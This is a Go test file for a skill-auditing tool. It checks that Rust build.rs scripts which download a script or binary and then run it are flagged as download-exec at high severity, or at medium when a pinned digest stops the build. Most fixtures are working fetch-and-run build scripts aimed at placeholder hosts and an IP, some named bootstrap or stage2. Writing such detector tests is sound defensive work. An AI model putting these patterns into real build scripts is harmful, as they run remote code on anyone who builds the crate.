package audit_test

import (
	"strings"
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// rustPin is a pinned SHA-256 digest for the tests below.
var rustPin = strings.Repeat("3f", 32)

// TestRustFetchUnwrapped: a Rust build script's download is followed
// however the answer is unwrapped (let Ok(x) = .. else, if let, match
// arms, closures, a helper function returning the body, a buffer filled
// by read_to_end or read_to_string, a std::net TcpStream, a curl process
// whose output is kept) to the path it is written to (fs::write, io::copy
// or write_all into File::create, a function of the file writing its
// parameter to the path another parameter names), and a later run of
// that path (sh, bash, Command::new(path)) is download-exec, high. A
// digest check of the download against a pinned digest that stops the
// build on a mismatch makes it medium (a pinned release); a check that
// only warns, or a digest fetched from the same server, leaves it high.
func TestRustFetchUnwrapped(t *testing.T) {
	for _, c := range []struct {
		name, src string
		line      int
		sev       audit.Severity
	}{
		{"let-else-ureq-sh", `use std::{env, fs, path::PathBuf, process::Command};
const HOST: [&str; 3] = ["dl", "tool-mirror", "example"];
fn fetch_helper(out: &PathBuf) {
    let url = format!("https://{}/helper/{}.sh", HOST.join("."), env::var("TARGET").unwrap_or_default());
    let Ok(resp) = ureq::get(&url).call() else {
        return;
    };
    let Ok(text) = resp.into_string() else { return };
    let script = out.join("helper.sh");
    if fs::write(&script, text).is_ok() {
        let _ = Command::new("sh").arg(&script).status();
    }
}
fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    fetch_helper(&out);
    println!("cargo:rerun-if-changed=build.rs");
}
`, 11, audit.High},
		{"match-arm-reqwest-bash", `use std::{fs, process::Command};
fn main() {
    let dest = std::env::temp_dir().join("setup.sh");
    match reqwest::blocking::get("https://setup.example/latest") {
        Ok(resp) => {
            if let Ok(bytes) = resp.bytes() {
                fs::write(&dest, &bytes).unwrap();
            }
        }
        Err(e) => eprintln!("offline: {e}"),
    }
    Command::new("bash").arg(&dest).status().ok();
}
`, 12, audit.High},
		{"helper-fn-closure-run-path", `use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
fn download(url: &str) -> Option<Vec<u8>> {
    ureq::get(url).call().ok().and_then(|r| {
        let mut v = Vec::new();
        r.into_reader().read_to_end(&mut v).ok().map(|_| v)
    })
}
fn main() {
    let bin = format!("{}/runner", std::env::var("OUT_DIR").unwrap());
    if let Some(payload) = download("https://runners.example/x86_64/runner") {
        fs::write(&bin, payload).unwrap();
        fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
        Command::new(&bin).status().unwrap();
    }
}
`, 15, audit.High},
		{"tcpstream-read-to-string", `use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
fn main() {
    let mut s = TcpStream::connect("198.51.100.7:8080").unwrap();
    s.write_all(b"GET /hook HTTP/1.0\r\n\r\n").unwrap();
    let mut reply = String::new();
    s.read_to_string(&mut reply).unwrap();
    let path = "target/hook.sh";
    std::fs::write(path, &reply).unwrap();
    Command::new("sh").arg(path).status().unwrap();
}
`, 11, audit.High},
		{"curl-output-kept", `use std::process::Command;
fn main() {
    let out = Command::new("curl").args(["-fsSL", "https://tools.example/setup"]).output().unwrap();
    let p = "target/setup.sh";
    std::fs::write(p, &out.stdout).unwrap();
    Command::new("sh").arg(p).status().unwrap();
}
`, 6, audit.High},
		{"write-all-bound-file", `use std::fs::File;
use std::io::Write;
use std::process::Command;
fn main() -> std::io::Result<()> {
    let body = ureq::get("https://agent.example/bootstrap").call().map_err(std::io::Error::other)?.into_string()?;
    let path = std::env::temp_dir().join("bootstrap.sh");
    let mut f = File::create(&path)?;
    f.write_all(body.as_bytes())?;
    Command::new("bash").arg(&path).spawn()?;
    Ok(())
}
`, 9, audit.High},
		{"write-all-inline-create", `use std::fs::File;
use std::io::Write;
use std::process::Command;
async fn stage() -> Result<(), Box<dyn std::error::Error>> {
    let text = reqwest::get("https://agent.example/stage2").await?.text().await?;
    File::create("target/stage2.sh")?.write_all(text.as_bytes())?;
    Command::new("sh").arg("target/stage2.sh").status()?;
    Ok(())
}
`, 7, audit.High},
		{"writer-helper-fn", `use std::{env, fs, path::Path, process::Command};
fn save<P: AsRef<Path>>(dest: P, contents: &str) {
    fs::write(dest, contents).expect("write");
}
fn main() {
    let script = Path::new(&env::var("OUT_DIR").unwrap()).join("post.sh");
    let body = ureq::get("https://hooks.example/post.sh").call().unwrap().into_string().unwrap();
    save(&script, &body);
    Command::new("sh").arg(&script).status().unwrap();
}
`, 9, audit.High},
		{"digest-check-warns-only", `use sha2::{Digest, Sha256};
use std::process::Command;
const PIN: &str = "` + rustPin + `";
fn main() {
    let body = ureq::get("https://dl.example/install.sh").call().unwrap().into_string().unwrap();
    let p = "target/install.sh";
    std::fs::write(p, &body).unwrap();
    let got = format!("{:x}", Sha256::digest(&body));
    if got != PIN {
        println!("cargo:warning=checksum differs");
    }
    Command::new("sh").arg(p).status().unwrap();
}
`, 12, audit.High},
		{"digest-pin-from-server", `use sha2::{Digest, Sha256};
use std::process::Command;
fn main() {
    let body = ureq::get("https://dl.example/install.sh").call().unwrap().into_string().unwrap();
    let want = ureq::get("https://dl.example/install.sh.sha256").call().unwrap().into_string().unwrap();
    let p = "target/install.sh";
    std::fs::write(p, &body).unwrap();
    let got = format!("{:x}", Sha256::digest(&body));
    assert_eq!(got, want.trim());
    Command::new("sh").arg(p).status().unwrap();
}
`, 10, audit.High},
		{"digest-pinned-aborts", `use sha2::{Digest, Sha256};
use std::process::Command;
const INSTALLER_SHA256: &str = "` + rustPin + `";
fn main() {
    let body = ureq::get("https://dl.example/v1.2.3/install.sh").call().unwrap().into_string().unwrap();
    let p = "target/install.sh";
    std::fs::write(p, &body).unwrap();
    let got = hex::encode(Sha256::digest(std::fs::read(p).unwrap()));
    if got != INSTALLER_SHA256 {
        panic!("install.sh checksum mismatch: {got}");
    }
    Command::new("sh").arg(p).status().unwrap();
}
`, 12, audit.Medium},
		{"digest-hasher-assert", `use sha2::{Digest, Sha256};
use std::process::Command;
fn main() {
    let bytes = reqwest::blocking::get("https://dl.example/tool-1.4.0").unwrap().bytes().unwrap();
    let bin = "target/tool";
    std::fs::write(bin, &bytes).unwrap();
    let mut h = Sha256::new();
    h.update(&bytes);
    let sum = format!("{:x}", h.finalize());
    assert_eq!(sum, "` + rustPin + `", "tool checksum");
    Command::new(bin).arg("--version").status().unwrap();
}
`, 11, audit.Medium},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{"build.rs": c.src})
			wantFindingAt(t, rep, "s", "download-exec", "build.rs", c.line, c.sev)
			if got, _ := worstOf(rep, "download-exec"); got != c.sev {
				t.Errorf("worst download-exec %v, want %v", got, c.sev)
			}
			if t.Failed() {
				t.Logf("findings %+v", rep.Findings)
			}
		})
	}
}

// TestRustBuildScriptBenign: build scripts that compile the crate's C
// code (the cc crate), probe system libraries (pkg-config, as a crate or
// a process), embed the git revision, cache fetched JSON as data, or run
// a script the crate ships are not download runs, nor is anything else
// in them high.
func TestRustBuildScriptBenign(t *testing.T) {
	for _, c := range []struct{ name, src string }{
		{"cc-and-pkg-config", `use std::env;
use std::process::Command;
fn main() {
    let lib = pkg_config::Config::new().atleast_version("1.2").probe("zlib");
    if lib.is_err() {
        let out = Command::new("pkg-config").args(["--libs", "--cflags", "zlib"]).output().expect("pkg-config");
        println!("cargo:warning={}", String::from_utf8_lossy(&out.stdout));
    }
    cc::Build::new()
        .file("csrc/fastpath.c")
        .include("csrc")
        .flag_if_supported("-O3")
        .compile("fastpath");
    let rev = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().ok()
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .unwrap_or_else(|| "unknown".into());
    println!("cargo:rustc-env=GIT_REV={}", rev.trim());
    println!("cargo:rerun-if-changed=csrc/fastpath.c");
    let _ = env::var("OUT_DIR");
}
`},
		{"vendored-make", `use std::process::Command;
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let st = Command::new("make").args(["-C", "vendor/libfoo", "static"]).env("PREFIX", &out).status().unwrap();
    assert!(st.success());
    Command::new("sh").arg("scripts/gen-bindings.sh").arg(&out).status().unwrap();
    println!("cargo:rustc-link-search=native={}/lib", out);
}
`},
		{"fetch-json-data", `use std::{fs, process::Command};
fn main() {
    let Ok(resp) = ureq::get("https://index.example/targets.json").call() else { return };
    let Ok(json) = resp.into_string() else { return };
    fs::write(format!("{}/targets.json", std::env::var("OUT_DIR").unwrap()), &json).unwrap();
    Command::new("sh").arg("scripts/codegen.sh").status().unwrap();
}
`},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{"build.rs": c.src})
			for _, f := range rep.Findings {
				if f.Severity >= audit.High || f.RuleID == "download-exec" {
					t.Errorf("benign %s: %+v", c.name, f)
				}
			}
		})
	}
}
